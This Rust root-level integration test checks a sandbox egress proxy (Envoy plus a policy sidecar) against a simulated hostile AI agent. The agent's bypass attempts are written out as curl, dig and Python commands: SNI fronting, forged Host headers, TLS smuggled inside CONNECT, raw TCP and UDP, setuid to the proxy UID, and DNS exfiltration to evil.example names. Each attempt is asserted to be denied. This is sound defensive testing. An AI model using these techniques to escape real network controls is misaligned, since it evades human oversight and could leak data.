//! Transparent egress, as a hostile agent meets it: a network namespace the
//! test makes stands for the agent's pod (a veth to a second namespace, the
//! "outside", where a real upstream runs), with the rules
//! `mandate-egress-init` installs, the Envoy bootstrap the injector writes
//! and mandate-sidecar, both as the proxy's UID (15999). The agent is UID
//! 1000 running curl, dig and Python, ignoring every proxy variable.
//!
//! Each bypass must end denied with a logged reason, or refused by the
//! kernel, and the upstream's own log must show that nothing denied
//! arrived; allowed traffic must work, over IPv4 and IPv6.
//!
//! Needs root (namespaces, nftables): `make test` runs it, with the
//! `root-tests` feature; without it the test is ignored.

#![allow(clippy::expect_used, clippy::unwrap_used, clippy::indexing_slicing)] // test fixtures

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use anyhow::{Context, Result, bail, ensure};
use mandate_operator::webhook::inject::{InjectConfig, Sockets, envoy_bootstrap_at};
use mandate_testsupport::{envoy, eventually, secs};

const AGENT_UID: &str = "1000";
const PROXY_UID: &str = "15999";
const POD_V4: &str = "198.51.100.1";
const UP_V4: &str = "198.51.100.2";
const UP_V6: &str = "fd00:5::2";
/// A second address of the outside, for a forged Host.
const OTHER_V4: &str = "203.0.113.7";

const POLICY: &str = r#"apiVersion: mandate.dev/v1alpha1
kind: AgentPolicy
metadata: {name: transparent}
spec:
  egress:
  - {host: allowed.example, port: 8080}
  - {host: tls.allowed.example, port: 443}
  - {host: pinned.allowed.example, port: 443, tlsMode: Passthrough}
  - {host: other.allowed.example, port: 443}
  modules:
  - name: egress.rego
    rego: |
      package mandate.authz
      import rego.v1
      default decision := false
      upstreams := {"198.51.100.2", "fd00:5::2", "allowed.example"}
      decision if {
        input.attributes.request.http.method == "GET"
        input.parsed_host.name in upstreams
        input.parsed_host.port == 8080
        startswith(input.parsed_path[0], "allowed")
      }
      # TLS, on the transparent path or through the proxy: first the
      # CONNECT, on its server name...
      # (undeclared.allowed.example is allowed here but declared in no
      # egress list: no leaf is minted for it, so its handshake fails.)
      tls_hosts := {"tls.allowed.example", "pinned.allowed.example", "undeclared.allowed.example"}
      decision if {
        input.attributes.request.http.method == "CONNECT"
        input.egress.path in {"sni", "proxy"}
        input.parsed_host.name in tls_hosts
        input.parsed_host.port == 443
      }
      # ...then, intercepted, each request inside: reads only.
      decision if {
        input.egress.path == "intercept"
        input.tls.intercepted
        input.attributes.request.http.method == "GET"
        input.parsed_host.name == "tls.allowed.example"
        startswith(input.parsed_path[0], "allowed")
      }
      decision if {
        input.egress.path == "intercept"
        input.attributes.request.http.method == "GET"
        input.parsed_path == ["v1", "models"]
      }
      # Raw TCP: only the echo port.
      decision if {
        input.attributes.request.http.method == "CONNECT"
        input.egress.path == "raw"
        input.parsed_host.name == "198.51.100.2"
        input.parsed_host.port == 9000
      }
"#;

/// The upstream: HTTP on 8080 (both families), TCP echo on 9000 and 9002,
/// UDP on 9001, DNS is dnsmasq's; every arrival logged.
const UPSTREAM: &str = r#"
import socket, sys, threading, http.server
log = open(sys.argv[1], "a", buffering=1)
def note(s): log.write(s + "\n")
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        note("HTTP %s %s host=%s" % (self.command, self.path, self.headers.get("host")))
        body = b"upstream " + self.path.encode()
        self.send_response(200); self.send_header("content-length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        note("HTTP %s %s host=%s" % (self.command, self.path, self.headers.get("host")))
        self.send_response(200); self.send_header("content-length", "0"); self.end_headers()
    def log_message(self, *a): pass
class S6(http.server.ThreadingHTTPServer):
    address_family = socket.AF_INET6
    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        super().server_bind()
def echo(port):
    s = socket.socket(socket.AF_INET6); s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("::", port)); s.listen()
    while True:
        c, peer = s.accept(); note("TCP %d from %s" % (port, peer[0]))
        data = c.recv(64); c.sendall(data); c.close()
def udp(port):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.bind(("::", port))
    while True:
        data, peer = s.recvfrom(512); note("UDP %d %r" % (port, data))
def tls():
    import ssl
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(sys.argv[2], sys.argv[3])
    t = S6(("::", 443), H); t.socket = ctx.wrap_socket(t.socket, server_side=True); t.serve_forever()
for f, p in ((echo, 9000), (echo, 9002), (udp, 9001)):
    threading.Thread(target=f, args=(p,), daemon=True).start()
threading.Thread(target=tls, daemon=True).start()
srv = S6(("::", 8080), H)
note("READY")
srv.serve_forever()
"#;

/// What the agent runs for raw sockets: connect and echo, or send UDP.
const AGENT_PY: &str = r#"
import socket, sys
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
try:
    if kind == "tcp":
        s = socket.create_connection((host, port), timeout=5); s.sendall(b"ping")
        print("got %r" % s.recv(64))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"leak", (host, port)); print("sent")
except OSError as e:
    print("error %s" % e)
"#;

/// Namespaces (and with them the veth pair) removed whatever happens.
struct Namespaces(Vec<String>);

impl Drop for Namespaces {
    fn drop(&mut self) {
        for ns in &self.0 {
            let _ = Command::new("ip").args(["netns", "del", ns]).status();
            let _ = std::fs::remove_dir_all(format!("/etc/netns/{ns}"));
        }
    }
}

fn run(args: &[&str]) -> Result<String> {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .with_context(|| format!("running {}", args[0]))?;
    if !out.status.success() {
        bail!(
            "{} failed ({}): {}",
            args.join(" "),
            out.status,
            String::from_utf8_lossy(&out.stderr).trim()
        );
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

/// Run `args` in namespace `ns` as `uid` (root: no setpriv); the output,
/// stdout then stderr, whatever the exit status.
fn as_user(ns: &str, uid: &str, args: &[&str]) -> String {
    let mut cmd = Command::new("ip");
    cmd.args(["netns", "exec", ns]);
    if uid != "0" {
        cmd.args([
            "setpriv",
            &format!("--reuid={uid}"),
            &format!("--regid={uid}"),
            "--clear-groups",
            "--",
        ]);
    }
    // The agent ignores every proxy variable.
    cmd.args(args)
        .env_remove("http_proxy")
        .env_remove("HTTP_PROXY")
        .env_remove("https_proxy");
    match cmd.output() {
        Ok(o) => format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        ),
        Err(e) => format!("cannot run: {e}"),
    }
}

fn spawn_in(ns: &str, uid: &str, args: &[&str], out: &Path, err: &Path) -> Result<std::process::Child> {
    let mut cmd = Command::new("ip");
    cmd.args(["netns", "exec", ns]);
    if uid != "0" {
        cmd.args([
            "setpriv",
            &format!("--reuid={uid}"),
            &format!("--regid={uid}"),
            "--clear-groups",
            "--",
        ]);
    }
    cmd.args(args)
        .stdout(Stdio::from(std::fs::File::create(out)?))
        .stderr(Stdio::from(std::fs::File::create(err)?))
        .spawn()
        .with_context(|| format!("starting {}", args[0]))
}

struct Kill(Vec<std::process::Child>);
impl Drop for Kill {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn copy_exe(from: &Path, dir: &Path) -> Result<PathBuf> {
    let to = dir.join(from.file_name().context("a binary without a name")?);
    std::fs::copy(from, &to).with_context(|| format!("copying {}", from.display()))?;
    Ok(to)
}

#[tokio::test]
#[cfg_attr(not(feature = "root-tests"), ignore = "needs root: make test runs it")]
async fn a_hostile_agent_cannot_get_around_transparent_egress() -> Result<()> {
    for tool in [
        "ip",
        "setpriv",
        "curl",
        "dig",
        "dnsmasq",
        "/usr/sbin/nft",
        "/usr/bin/python3",
    ] {
        ensure!(
            Command::new("sh")
                .args(["-c", &format!("command -v {tool}")])
                .output()?
                .status
                .success(),
            "{tool} is missing: run hack/install-deps.sh (make deps)"
        );
    }
    let id = std::process::id() % 100_000;
    let (pod, up) = (format!("mdt-a{id}"), format!("mdt-u{id}"));
    let (veth_a, veth_u) = (format!("mdta{id}"), format!("mdtu{id}"));
    run(&["ip", "netns", "add", &pod])?;
    let _ns = Namespaces(vec![pod.clone(), up.clone()]);
    run(&["ip", "netns", "add", &up])?;
    run(&["ip", "link", "add", &veth_a, "type", "veth", "peer", "name", &veth_u])?;
    run(&["ip", "link", "set", &veth_a, "netns", &pod])?;
    run(&["ip", "link", "set", &veth_u, "netns", &up])?;
    for (ns, dev, v4, v6, peer4, peer6) in [
        (&pod, &veth_a, POD_V4, "fd00:5::1", UP_V4, UP_V6),
        (&up, &veth_u, UP_V4, UP_V6, POD_V4, "fd00:5::1"),
    ] {
        let ip = |args: &[&str]| {
            let mut all = vec!["ip", "netns", "exec", ns.as_str(), "ip"];
            all.extend_from_slice(args);
            run(&all)
        };
        ip(&["link", "set", "lo", "up"])?;
        ip(&["addr", "add", &format!("{v4}/24"), "dev", dev])?;
        ip(&["-6", "addr", "add", &format!("{v6}/64"), "dev", dev, "nodad"])?;
        ip(&["link", "set", dev, "up"])?;
        if ns == &pod {
            ip(&["route", "add", "default", "via", peer4])?;
            ip(&["-6", "route", "add", "default", "via", peer6])?;
        }
    }
    run(&[
        "ip",
        "netns",
        "exec",
        &up,
        "ip",
        "addr",
        "add",
        &format!("{OTHER_V4}/32"),
        "dev",
        "lo",
    ])?;

    // Files the proxy's UID reads and writes.
    let dir = std::env::temp_dir().join(format!("mandate-transparent-{id}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("policies"))?;
    std::fs::write(dir.join("policies/transparent.yaml"), POLICY)?;
    std::fs::write(dir.join("upstream.py"), UPSTREAM)?;
    std::fs::write(dir.join("agent.py"), AGENT_PY)?;
    let run_dir = dir.join("run");
    std::fs::create_dir_all(&run_dir)?;
    run(&[
        "chown",
        "-R",
        &format!("{PROXY_UID}:{PROXY_UID}"),
        &run_dir.to_string_lossy(),
    ])?;
    run(&["chmod", "0755", &dir.to_string_lossy()])?;
    let envoy_bin = copy_exe(&envoy(), &dir)?;
    let sidecar_bin = copy_exe(Path::new(env!("CARGO_BIN_EXE_mandate-sidecar")), &dir)?;
    let init_bin = Path::new(env!("CARGO_BIN_EXE_mandate-egress-init"));
    // requests and httpx, where the agent's UID can read them.
    let py_clients = dir.join("py-clients");
    run(&[
        "cp",
        "-r",
        &mandate_testsupport::python_clients().to_string_lossy(),
        &py_clients.to_string_lossy(),
    ])
    .context("copying requests and httpx (make deps installs them)")?;

    let (cert, key) = (dir.join("tls.crt"), dir.join("tls.key"));
    run(&[
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-days",
        "1",
        "-subj",
        "/CN=tls.allowed.example",
        "-addext",
        "subjectAltName=DNS:tls.allowed.example,DNS:pinned.allowed.example,DNS:secret-sni.evil.example",
        "-addext",
        "basicConstraints=critical,CA:TRUE",
        "-keyout",
        &key.to_string_lossy(),
        "-out",
        &cert.to_string_lossy(),
    ])?;
    // Envoy resolves TLS names from the pod's hosts file (ip netns exec
    // puts this one in place of /etc/hosts).
    std::fs::create_dir_all(format!("/etc/netns/{pod}"))?;
    std::fs::write(
        format!("/etc/netns/{pod}/hosts"),
        format!("{UP_V4} tls.allowed.example pinned.allowed.example\n"),
    )?;
    let up_log = dir.join("upstream.log");
    let dns_log = dir.join("dns.log");
    let mut procs = Kill(vec![]);
    procs.0.push(spawn_in(
        &up,
        "0",
        &[
            "/usr/bin/python3",
            &dir.join("upstream.py").to_string_lossy(),
            &up_log.to_string_lossy(),
            &cert.to_string_lossy(),
            &key.to_string_lossy(),
        ],
        &dir.join("upstream.out"),
        &dir.join("upstream.err"),
    )?);
    procs.0.push(spawn_in(
        &up,
        "0",
        &[
            "dnsmasq",
            "--keep-in-foreground",
            "--no-resolv",
            "--no-hosts",
            "--bind-interfaces",
            &format!("--listen-address={UP_V4}"),
            "--port=53",
            "--address=/allowed.example/198.51.100.2",
            "--address=/evil.example/198.51.100.2",
            "--log-queries",
            &format!("--log-facility={}", dns_log.display()),
            "--user=root",
            "--pid-file=",
        ],
        &dir.join("dnsmasq.out"),
        &dir.join("dnsmasq.err"),
    )?);
    eventually("the upstream", secs(20), async || {
        std::fs::read_to_string(&up_log).unwrap_or_default().contains("READY")
    })
    .await?;

    // The pod: the sidecar and Envoy as the proxy's UID, as injected; the
    // sidecar publishes the pod CA's bundle where the agent reads it.
    let ca_dir = dir.join("ca");
    std::fs::create_dir_all(&ca_dir)?;
    run(&["chown", &format!("{PROXY_UID}:{PROXY_UID}"), &ca_dir.to_string_lossy()])?;
    let socket = run_dir.join("authz.sock");
    let decisions = dir.join("decisions.log");
    procs.0.push(spawn_in(
        &pod,
        PROXY_UID,
        &[
            &sidecar_bin.to_string_lossy(),
            "--policy",
            &dir.join("policies").to_string_lossy(),
            "--listen-unix",
            &socket.to_string_lossy(),
            "--no-tcp",
            "--admin-listen",
            "127.0.0.1:15020",
            "--dns-listen",
            "127.0.0.1:15053,[::1]:15053",
            "--dns-upstream",
            &format!("{UP_V4}:53"),
            "--sds-socket",
            &run_dir.join("sds.sock").to_string_lossy(),
            "--ca-bundle-dir",
            &ca_dir.to_string_lossy(),
        ],
        &decisions,
        &dir.join("sidecar.err"),
    )?);
    // Envoy verifies the upstream against its own certificate (the
    // upstream's CA here), as it would against the system roots.
    let cfg = InjectConfig {
        upstream_ca_file: cert.display().to_string(),
        ..InjectConfig::default()
    };
    let bootstrap = envoy_bootstrap_at(
        &cfg,
        &Sockets {
            authz: &socket.to_string_lossy(),
            admin: &run_dir.join("envoy-admin.sock").to_string_lossy(),
            sds: &run_dir.join("sds.sock").to_string_lossy(),
        },
        "127.0.0.1",
    );
    procs.0.push(spawn_in(
        &pod,
        PROXY_UID,
        &[
            &envoy_bin.to_string_lossy(),
            "--config-yaml",
            &bootstrap,
            "--log-level",
            &std::env::var("MANDATE_TEST_ENVOY_LOG").unwrap_or_else(|_| "warn".into()),
            "--disable-hot-restart",
            "--use-dynamic-base-id",
        ],
        &dir.join("envoy.out"),
        &dir.join("envoy.err"),
    )?);
    let ready = |port: u16, path: &'static str| {
        let pod = pod.clone();
        move || {
            let out = as_user(
                &pod,
                PROXY_UID,
                &[
                    "curl",
                    "-s",
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                    &format!("http://127.0.0.1:{port}{path}"),
                ],
            );
            out.trim() == "200"
        }
    };
    let (sidecar_ready, envoy_ready) = (ready(15020, "/readyz"), ready(cfg.envoy_health_port, "/healthz/ready"));
    eventually("the sidecar and Envoy", secs(30), async || {
        sidecar_ready() && envoy_ready()
    })
    .await
    .with_context(|| std::fs::read_to_string(dir.join("envoy.err")).unwrap_or_default())?;

    // The egress rules, as the init container installs them (root, in the pod).
    let init = as_user(&pod, "0", &[&init_bin.to_string_lossy()]);
    ensure!(init.contains("egress rules installed"), "mandate-egress-init: {init}");

    let curl = |args: &[&str]| {
        let mut all = vec![
            "curl",
            "-s",
            "-m",
            "5",
            "--noproxy",
            "*",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ];
        all.extend_from_slice(args);
        as_user(&pod, AGENT_UID, &all).trim().to_string()
    };
    let upstream_saw = |what: &str| std::fs::read_to_string(&up_log).unwrap_or_default().contains(what);

    // Allowed: a client that ignores HTTP_PROXY still works, over both families.
    let get = |url: &str| as_user(&pod, AGENT_UID, &["curl", "-s", "-i", "-m", "5", "--noproxy", "*", url]);
    for url in [
        format!("http://{UP_V4}:8080/allowed-v4"),
        format!("http://[{UP_V6}]:8080/allowed-v6"),
    ] {
        ensure!(curl(&[&url]) == "200", "{url}: {}", get(&url));
    }
    ensure!(upstream_saw("GET /allowed-v4") && upstream_saw("GET /allowed-v6"));
    // The explicit proxy keeps working.
    let via_proxy = as_user(
        &pod,
        AGENT_UID,
        &[
            "curl",
            "-s",
            "-m",
            "5",
            "-x",
            "http://127.0.0.1:15001",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            &format!("http://{UP_V4}:8080/allowed-proxy"),
        ],
    );
    ensure!(via_proxy.trim() == "200", "through HTTP_PROXY: {via_proxy}");
    // Python and Node clients, unchanged.
    let py = as_user(
        &pod,
        AGENT_UID,
        &[
            "/usr/bin/python3",
            "-c",
            &format!(
                "import urllib.request; print(urllib.request.urlopen('http://{UP_V4}:8080/allowed-python', timeout=5).status)"
            ),
        ],
    );
    ensure!(py.trim() == "200", "python: {py}");
    let pythonpath = format!("PYTHONPATH={}", py_clients.display());
    for (client, code) in [
        (
            "requests",
            format!(
                "import requests; print(requests.get('http://{UP_V4}:8080/allowed-requests', timeout=5).status_code)"
            ),
        ),
        (
            "httpx",
            format!("import httpx; print(httpx.get('http://{UP_V4}:8080/allowed-httpx', timeout=5).status_code)"),
        ),
    ] {
        let out = as_user(&pod, AGENT_UID, &["env", &pythonpath, "/usr/bin/python3", "-c", &code]);
        ensure!(out.trim() == "200", "python {client}: {out}");
        ensure!(
            upstream_saw(&format!("GET /allowed-{client}")),
            "{client}'s request did not arrive"
        );
    }
    if let Ok(node) = which("node") {
        let out = as_user(
            &pod,
            AGENT_UID,
            &[
                &node,
                "-e",
                &format!(
                    "fetch('http://{UP_V4}:8080/allowed-node').then(r => console.log(r.status), e => console.log('error', e.cause ?? e))"
                ),
            ],
        );
        ensure!(out.trim() == "200", "node fetch: {out}");
    }

    // HTTPS that ignores the proxy: the CONNECT Envoy makes of it is decided
    // on the SNI, then Envoy terminates the TLS with a leaf of the pod's CA
    // and decides each request inside; it connects to where the name
    // resolves, never to the address the agent chose.
    let bundle = ca_dir.join("bundle.crt");
    let https = |sni: &str, to: &str, trust: &Path, extra: &[&str], path: &str| {
        let resolve = format!("{sni}:443:{to}");
        let url = format!("https://{sni}{path}");
        let mut args = vec![
            "curl",
            "-s",
            "-m",
            "5",
            "--noproxy",
            "*",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "--cacert",
        ];
        let trust = trust.to_string_lossy().into_owned();
        args.push(&trust);
        args.extend(["--resolve", &resolve]);
        args.extend(extra);
        args.push(&url);
        as_user(&pod, AGENT_UID, &args).trim().to_string()
    };
    ensure!(
        https("tls.allowed.example", UP_V4, &bundle, &[], "/allowed-tls-intercepted") == "200",
        "intercepted HTTPS, trusting the pod CA only\n{}",
        std::fs::read_to_string(dir.join("sidecar.err")).unwrap_or_default()
    );
    ensure!(upstream_saw("GET /allowed-tls-intercepted"));
    ensure!(
        https("tls.allowed.example", OTHER_V4, &bundle, &[], "/allowed-tls-elsewhere") == "200",
        "intercepted HTTPS pointed at another address"
    );
    // Decided inside: a read is allowed, a write is denied with the policy's answer.
    ensure!(https("tls.allowed.example", UP_V4, &bundle, &[], "/v1/models") == "200");
    ensure!(
        https(
            "tls.allowed.example",
            UP_V4,
            &bundle,
            &["-X", "POST", "-d", "x"],
            "/v1/files"
        ) == "403"
    );
    // SNI fronting: the handshake names an allowed host, the request another.
    ensure!(
        https(
            "tls.allowed.example",
            UP_V4,
            &bundle,
            &["-H", "Host: secret-sni.evil.example"],
            "/allowed-fronted"
        ) == "403",
        "a Host other than the SNI inside intercepted TLS"
    );
    // The upstream's own certificate does not verify what the agent got:
    // the agent talked to Envoy, with a leaf of the pod's CA.
    ensure!(https("tls.allowed.example", UP_V4, &cert, &[], "/allowed-tls-upstream-ca") != "200");
    // Passthrough (a pinned client): never decrypted, so the agent sees the
    // upstream's own certificate; decided on the SNI alone.
    ensure!(
        https("pinned.allowed.example", UP_V4, &cert, &[], "/allowed-pinned") == "200",
        "a passthrough host"
    );
    ensure!(upstream_saw("GET /allowed-pinned"));
    // Through HTTPS_PROXY: the same interception behind CONNECT.
    let bundle_arg = bundle.to_string_lossy().into_owned();
    let proxied = |extra: &[&str], url: &str| {
        let mut args = vec![
            "curl",
            "-s",
            "-m",
            "5",
            "-x",
            "http://127.0.0.1:15001",
            "--cacert",
            &bundle_arg,
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
        ];
        args.extend(extra);
        args.push(url);
        as_user(&pod, AGENT_UID, &args).trim().to_string()
    };
    let via_proxy_tls = proxied(&[], "https://tls.allowed.example/allowed-tls-proxy");
    ensure!(
        via_proxy_tls == "200",
        "intercepted HTTPS through HTTPS_PROXY: {via_proxy_tls}"
    );
    ensure!(upstream_saw("GET /allowed-tls-proxy"));
    // The CONNECT allowed for one host, the TLS inside for another (declared,
    // so it gets a leaf, but never allowed as a CONNECT): denied inside.
    let smuggled = proxied(
        &["--connect-to", "other.allowed.example:443:tls.allowed.example:443"],
        "https://other.allowed.example/allowed-smuggled",
    );
    ensure!(
        smuggled == "403",
        "TLS for another host inside an allowed CONNECT: {smuggled}"
    );
    // Python and Node, trusting the bundle the way the injector tells them to.
    let bundle_s = bundle.to_string_lossy().into_owned();
    let ca_s = ca_dir.join("ca.crt").to_string_lossy().into_owned();
    for (client, code) in [
        (
            "requests",
            "import requests; print(requests.get('https://tls.allowed.example/allowed-tls-requests', timeout=5).status_code)",
        ),
        (
            "httpx",
            "import httpx; print(httpx.get('https://tls.allowed.example/allowed-tls-httpx', timeout=5).status_code)",
        ),
    ] {
        let out = as_user(
            &pod,
            AGENT_UID,
            &[
                "env",
                &pythonpath,
                &format!("REQUESTS_CA_BUNDLE={bundle_s}"),
                &format!("SSL_CERT_FILE={bundle_s}"),
                "/usr/bin/python3",
                "-c",
                code,
            ],
        );
        ensure!(out.trim() == "200", "python {client} over intercepted HTTPS: {out}");
        ensure!(upstream_saw(&format!("GET /allowed-tls-{client}")));
    }
    if let Ok(node) = which("node") {
        let out = as_user(
            &pod,
            AGENT_UID,
            &[
                "env",
                &format!("NODE_EXTRA_CA_CERTS={ca_s}"),
                &node,
                "-e",
                "fetch('https://tls.allowed.example/allowed-tls-node').then(r => console.log(r.status), e => console.log('error', e.cause ?? e))",
            ],
        );
        ensure!(out.trim() == "200", "node fetch over intercepted HTTPS: {out}");
    }
    // No leaf, no handshake: a host the CONNECT rule allows but no egress
    // list declares (the sidecar removes its name over SDS), an SNI no
    // policy allows, and no SNI at all.
    ensure!(
        https("undeclared.allowed.example", UP_V4, &bundle, &[], "/undeclared") == "000",
        "an undeclared host got a leaf"
    );
    eventually("the SDS refusal to be logged", secs(10), async || {
        let err = std::fs::read_to_string(dir.join("sidecar.err")).unwrap_or_default();
        err.lines()
            .any(|l| l.contains("TLS interception refused") && l.contains("undeclared.allowed.example"))
    })
    .await?;
    ensure!(
        https("secret-sni.evil.example", UP_V4, &bundle, &[], "/evil-sni") == "000",
        "an SNI no policy allows"
    );
    let no_sni = as_user(
        &pod,
        AGENT_UID,
        &[
            "curl",
            "-s",
            "-k",
            "-m",
            "5",
            "--noproxy",
            "*",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            &format!("https://{UP_V4}/allowed-tls-nosni"),
        ],
    );
    ensure!(no_sni.trim() == "000", "TLS without an SNI: {no_sni}");

    // Denied by policy: the path, raw TCP to another port, a forged Host.
    ensure!(curl(&[&format!("http://{UP_V4}:8080/denied")]) == "403");
    let forged = curl(&[
        "-H",
        &format!("Host: {UP_V4}:8080"),
        &format!("http://{OTHER_V4}:8080/allowed-forged"),
    ]);
    ensure!(
        forged == "403",
        "a Host naming an allowed upstream, sent to another address: {forged}"
    );
    let echo = as_user(
        &pod,
        AGENT_UID,
        &[
            "/usr/bin/python3",
            &dir.join("agent.py").to_string_lossy(),
            "tcp",
            UP_V4,
            "9000",
        ],
    );
    ensure!(echo.contains("got b'ping'"), "raw TCP to the allowed port: {echo}");
    let raw = as_user(
        &pod,
        AGENT_UID,
        &[
            "/usr/bin/python3",
            &dir.join("agent.py").to_string_lossy(),
            "tcp",
            UP_V4,
            "9002",
        ],
    );
    ensure!(!raw.contains("ping"), "raw TCP to a port no policy allows: {raw}");
    // Refused by the kernel: UDP, and Mandate's own ports on loopback
    // (Envoy's admin would be here, the sidecar's metrics, the transparent
    // listener without a redirect).
    let udp = as_user(
        &pod,
        AGENT_UID,
        &[
            "/usr/bin/python3",
            &dir.join("agent.py").to_string_lossy(),
            "udp",
            UP_V4,
            "9001",
        ],
    );
    ensure!(udp.contains("error"), "UDP: {udp}");
    for target in [
        "127.0.0.1:15000",
        "127.0.0.1:15002",
        "127.0.0.1:15020",
        &format!("{POD_V4}:15020"),
        &format!("{POD_V4}:15021"),
    ] {
        let code = curl(&[&format!("http://{target}/")]);
        ensure!(code == "000", "the agent reached {target}: HTTP {code}");
    }
    // It cannot become the proxy's UID.
    let su = as_user(&pod, AGENT_UID, &["setpriv", &format!("--reuid={PROXY_UID}"), "true"]);
    ensure!(
        su.contains("Operation not permitted") || su.contains("setresuid failed"),
        "setuid: {su}"
    );

    // DNS: a name in a policy's egress list resolves, through the sidecar,
    // whatever server the agent asks; any other is NXDOMAIN and never leaves.
    let dig = |args: &[&str]| {
        let mut all = vec!["dig", "+time=3", "+tries=1"];
        all.extend_from_slice(args);
        as_user(&pod, AGENT_UID, &all)
    };
    let allowed = dig(&["@192.0.2.53", "allowed.example", "A"]);
    ensure!(
        allowed.contains("NOERROR") && allowed.contains("198.51.100.2"),
        "allowed name: {allowed}"
    );
    for args in [
        vec!["@192.0.2.53", "secret-data.evil.example", "A"],
        vec!["+tcp", "@192.0.2.53", "secret-tcp.evil.example", "A"],
        vec![&format!("@{UP_V4}"), "secret-direct.evil.example", "A"],
        vec!["@192.0.2.53", "allowed.example", "TXT"],
    ] {
        let out = dig(&args);
        ensure!(
            out.contains("NXDOMAIN") || (args[2] == "TXT" && out.contains("ANSWER: 0")),
            "{args:?}: {out}"
        );
    }
    let dns = std::fs::read_to_string(&dns_log).unwrap_or_default();
    ensure!(
        dns.contains("allowed.example"),
        "the allowed query went upstream: {dns}"
    );
    ensure!(
        !dns.contains("evil"),
        "a refused name reached the upstream resolver: {dns}"
    );

    // Nothing denied arrived, and each denial is in the decision log with its reason.
    for never in [
        "/undeclared",
        "/denied",
        "allowed-forged",
        "TCP 9002",
        "UDP",
        "evil",
        "nosni",
        "/v1/files",
        "allowed-fronted",
        "upstream-ca",
    ] {
        ensure!(!upstream_saw(never), "{never} reached the upstream");
    }
    let log = std::fs::read_to_string(&decisions)?;
    let denied = |needle: &str| {
        log.lines()
            .any(|l| l.contains(needle) && l.contains(r#""result":"deny""#))
    };
    ensure!(denied("/denied"), "no deny for /denied:\n{log}");
    ensure!(
        denied("original destination and Host disagree"),
        "no deny for the forged Host:\n{log}"
    );
    ensure!(denied("198.51.100.2:9002"), "no deny for raw TCP:\n{log}");
    ensure!(denied("secret-sni.evil.example:443"), "no deny for the SNI:\n{log}");
    ensure!(denied("without a server name"), "no deny for TLS without SNI:\n{log}");
    Ok(())
}

fn which(tool: &str) -> Result<String> {
    let out = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()?;
    ensure!(out.status.success(), "no {tool}");
    Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
}
